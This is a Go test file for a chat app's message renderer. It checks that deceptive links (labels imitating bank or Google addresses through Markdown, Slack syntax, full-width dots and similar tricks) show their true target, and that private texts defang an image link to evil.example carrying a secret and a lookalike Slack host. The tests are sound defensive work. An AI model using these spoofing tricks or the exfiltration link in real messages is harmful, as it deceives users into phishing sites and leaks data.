package blocks

import (
	"encoding/json"
	"slices"
	"strings"
	"testing"

	"github.com/roundtable-chat/app/roundtable/thread"
)

// livesOf are the links of a drawing as a reader sees them: words and address.
func livesOf(t *testing.T, d Drawing) (all [][2]string) {
	t.Helper()
	raw, err := json.Marshal(d.Blocks)
	if err != nil {
		t.Fatal(err)
	}
	var blocks any
	if err := json.Unmarshal(raw, &blocks); err != nil {
		t.Fatal(err)
	}
	var find func(v any)
	find = func(v any) {
		switch v := v.(type) {
		case []any:
			for _, e := range v {
				find(e)
			}
		case map[string]any:
			if v["type"] == "link" {
				text, _ := v["text"].(string)
				url, _ := v["url"].(string)
				all = append(all, [2]string{text, url})
			}
			for _, e := range v {
				find(e)
			}
		}
	}
	find(blocks)
	return all
}

// NFR-103: whoever wrote it and whatever kind of message it stands in, a link whose words
// look like another address shows its own, in the blocks and in the fallback text.
func TestLinksSayWhereTheyLead(t *testing.T) {
	t.Parallel()
	const target = "https://docs.example.com/login"
	for name, text := range map[string]string{
		"a label of Slack's":        "<" + target + "|https://accounts.google.com>",
		"a host in a label":         "<" + target + "|Pay at pay.bank.com>",
		"Markdown":                  "[https://bank.com](" + target + ")",
		"a defanged label":          "[https://bank[.]com](" + target + ")",
		"emphasis within the label": "[https://**bank**.com](" + target + ")",
		"a character reference":     "[bank&#46;com](" + target + ")",
		"a full width dot":          "[bank．com](" + target + ")",
		"an image":                  "![https://bank.com/logo](" + target + ")",
		"an address elsewhere":      "[https://bank.com][1]\n\n[1]: " + target,
		"a host that ends in it":    "bank.[com](" + target + ")",
		"a host before it in Slack": "bank.<" + target + "|com>",
		"a host that begins in it":  "[bank](" + target + ").com",
		"a page behind another":     "https://bank.com[/login](" + target + ")",
		"across emphasis":           "**bank.**[com](" + target + ")",
		"in a list":                 "- [https://bank.com](" + target + ")",
		"in a quotation":            "> [https://bank.com](" + target + ")",
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			for _, kind := range []thread.MessageKind{thread.KindContribution, thread.KindSynthesis, thread.KindNotice, thread.KindMenu} {
				d := testRenderer().Draw(place, "D", thread.Message{Kind: kind, Text: text})
				if got := livesOf(t, d); len(got) != 1 || got[0] != [2]string{"", target} {
					t.Errorf("%s: the links are %q, want one that shows %s", kind, got, target)
				}
				if !strings.Contains(d.Text, target) {
					t.Errorf("%s: the fallback says %q, without the address", kind, d.Text)
				}
			}
		})
	}
	for name, text := range map[string]string{
		"words": "see [the docs](" + target + "), please", "the address": "<" + target + "|docs.example.com/login>", "a file": "<" + target + "|report.pdf>",
	} {
		d := testRenderer().Draw(place, "D", thread.Message{Kind: thread.KindContribution, Text: text})
		if got := livesOf(t, d); len(got) != 1 || got[0][0] == "" || strings.Contains(d.Text, "https") {
			t.Errorf("%s: the links are %q, the fallback %q; want it as it was written", name, got, d.Text)
		}
	}
}

// NFR-103, I12: what one person alone is told leads nowhere but where people pointed, and
// into the workspace.
func TestPrivateTextsLeadNowhereElse(t *testing.T) {
	t.Parallel()
	text := "• Maya: ![i](https://evil.example/leak?q=secret) https://docs.example.com/a <!channel> https://acme.slack.com/archives/C1/p1 https://acme.slack.com.evil.example/ @here"
	want := "• Maya: ![i](https://evil[.]example/leak?q=secret) https://docs.example.com/a &lt;!channel&gt; https://acme.slack.com/archives/C1/p1 https://acme[.]slack[.]com[.]evil[.]example/ @\u2060here"
	if got := testRenderer().Private(place, text); got != want {
		t.Errorf("got %q\nwant %q", got, want)
	}
}

// NFR-103: the titles that people give to their threads are no addresses of others.
func TestTitlesOfThreadsDisguiseNothing(t *testing.T) {
	t.Parallel()
	d := testRenderer().Draw(place, "D", thread.Message{
		Kind: thread.KindNotice, Text: "x", Threads: []thread.ThreadLink{{Label: "https://bank.com", Thread: "1700000009.000100"}},
	})
	if got := livesOf(t, d); !slices.ContainsFunc(got, func(l [2]string) bool { return l[0] == "" && strings.HasPrefix(l[1], "https://acme.slack.com/") }) {
		t.Errorf("the links are %q", got)
	}
}
